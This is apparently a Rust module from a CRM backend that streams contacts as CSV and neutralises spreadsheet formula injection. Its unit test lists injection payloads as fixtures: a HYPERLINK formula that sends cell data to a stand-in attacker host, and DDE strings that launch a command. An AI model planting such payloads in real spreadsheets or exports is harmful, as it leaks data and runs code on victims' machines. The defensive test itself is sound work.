//! Streamed CSV export of the filtered contact list.

use std::collections::HashMap;

use actix_web::http::header;
use actix_web::{get, web, HttpResponse};
use diesel::prelude::*;
use domain::{ContactFilter, Problem};
use uuid::Uuid;

use super::queries::{self, ContactRow};
use crate::error::{ApiError, ApiResult};
use crate::extract::AuthUser;
use crate::schema::{sites, users};
use crate::AppState;

const COLUMNS: [&str; 22] = [
    "id",
    "name",
    "email",
    "phone",
    "status",
    "assignee",
    "site",
    "channel",
    "source",
    "medium",
    "campaign",
    "referrer",
    "page_url",
    "ip",
    "city",
    "region",
    "country",
    "contact_hours",
    "rating",
    "tags",
    "first_contact_at",
    "created_at",
];

/// A cell a spreadsheet would run as a formula (`=`, `+`, `-`, `@`, tab or CR first: OWASP's
/// rule) gets a leading `'`, so lead-provided text stays text. Plain numbers (`+5511987654321`,
/// `-3`) cannot carry a formula and stay as they are.
pub fn neutralise_formula(cell: String) -> String {
    let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
    let plain_number = {
        let digits = cell.strip_prefix(['+', '-']).unwrap_or(&cell);
        !digits.is_empty() && digits.bytes().all(|b| b.is_ascii_digit())
    };
    if risky && !plain_number {
        format!("'{cell}")
    } else {
        cell
    }
}

fn record(c: &ContactRow, users: &HashMap<Uuid, String>, sites: &HashMap<Uuid, String>) -> Vec<String> {
    let name_of =
        |map: &HashMap<Uuid, String>, id: Option<Uuid>| id.and_then(|i| map.get(&i).cloned()).unwrap_or_default();
    let text = |v: &Option<String>| v.clone().unwrap_or_default();
    vec![
        c.id.to_string(),
        text(&c.name),
        text(&c.email),
        text(&c.phone),
        c.status.clone(),
        name_of(users, c.assignee_id),
        name_of(sites, c.site_id),
        c.channel.clone(),
        text(&c.source),
        text(&c.medium),
        text(&c.campaign),
        text(&c.referrer),
        text(&c.page_url),
        text(&c.ip),
        text(&c.city),
        text(&c.region),
        text(&c.country),
        text(&c.contact_hours),
        c.rating.map(|r| r.to_string()).unwrap_or_default(),
        c.tags.join(";"),
        c.first_contact_at.to_rfc3339(),
        c.created_at.to_rfc3339(),
    ]
    .into_iter()
    .map(neutralise_formula)
    .collect()
}

/// Download contacts as CSV.
///
/// The contacts under the same filter as the list, in list order, streamed a page at a time so
/// that the file's size is not bounded by memory. Agents export only their own contacts.
#[utoipa::path(
    tag = "contacts", operation_id = "export_contacts", security(("bearer" = [])),
    params(ContactFilter),
    responses(
        (status = 200, description = "CSV with a header row", content_type = "text/csv", body = String),
        (status = 401, description = "Not signed in", body = Problem, content_type = "application/problem+json"),
    )
)]
#[get("/export.csv")]
pub async fn export_contacts(
    state: web::Data<AppState>,
    caller: AuthUser,
    filter: web::Query<ContactFilter>,
) -> ApiResult<HttpResponse> {
    let filter = filter.into_inner();
    validator::Validate::validate(&filter)?;
    let (tx, rx) = tokio::sync::mpsc::channel::<Result<web::Bytes, ApiError>>(4);
    let db = state.db.clone();
    std::thread::Builder::new()
        .name("csv-export".into())
        .spawn(move || {
            let result = db.run_blocking(|conn| {
                let account = caller.account_id;
                let users: HashMap<Uuid, String> = users::table
                    .filter(users::account_id.eq(account))
                    .select((users::id, users::name))
                    .load(conn)?
                    .into_iter()
                    .collect();
                let sites: HashMap<Uuid, String> = sites::table
                    .filter(sites::account_id.eq(account))
                    .select((sites::id, sites::name))
                    .load(conn)?
                    .into_iter()
                    .collect();
                let csv_err = |e: csv::Error| ApiError::Internal(e.into());
                let mut cursor: Option<String> = None;
                loop {
                    // One writer per page of 1,000 rows: each page becomes one chunk of the body.
                    let mut writer = csv::Writer::from_writer(Vec::new());
                    if cursor.is_none() {
                        writer.write_record(COLUMNS).map_err(csv_err)?;
                    }
                    let (rows, next) = queries::page(conn, &caller, &filter, cursor.as_deref(), 1000)?;
                    for row in &rows {
                        writer.write_record(record(row, &users, &sites)).map_err(csv_err)?;
                    }
                    let chunk = writer.into_inner().map_err(|e| ApiError::Internal(anyhow::anyhow!("csv: {e}")))?;
                    if tx.blocking_send(Ok(web::Bytes::from(chunk))).is_err() {
                        return Ok(()); // the client went away
                    }
                    match next {
                        Some(c) => cursor = Some(c),
                        None => return Ok(()),
                    }
                }
            });
            if let Err(e) = result {
                tracing::error!(error = ?e, "CSV export failed midway");
                let _ = tx.blocking_send(Err(e));
            }
        })
        .map_err(|e| ApiError::Internal(e.into()))?;
    let body = futures_util::stream::unfold(rx, |mut rx| async move { rx.recv().await.map(|chunk| (chunk, rx)) });
    Ok(HttpResponse::Ok()
        .content_type("text/csv; charset=utf-8")
        .insert_header((header::CONTENT_DISPOSITION, "attachment; filename=\"contacts.csv\""))
        .streaming(body))
}

#[cfg(test)]
mod tests {
    use super::neutralise_formula;

    #[test]
    fn formula_cells_are_neutralised_and_plain_values_kept() {
        for (cell, safe) in [
            (
                r#"=HYPERLINK("http://evil.example/?d="&C2,"Click")"#,
                r#"'=HYPERLINK("http://evil.example/?d="&C2,"Click")"#,
            ),
            ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
            ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
            ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
            ("\t=1+1", "'\t=1+1"),
            ("\r=1+1", "'\r=1+1"),
            ("+5511987654321", "+5511987654321"),
            ("-3", "-3"),
            ("Maria = cliente", "Maria = cliente"),
            ("", ""),
        ] {
            assert_eq!(neutralise_formula(cell.to_string()), safe, "{cell:?}");
        }
    }
}
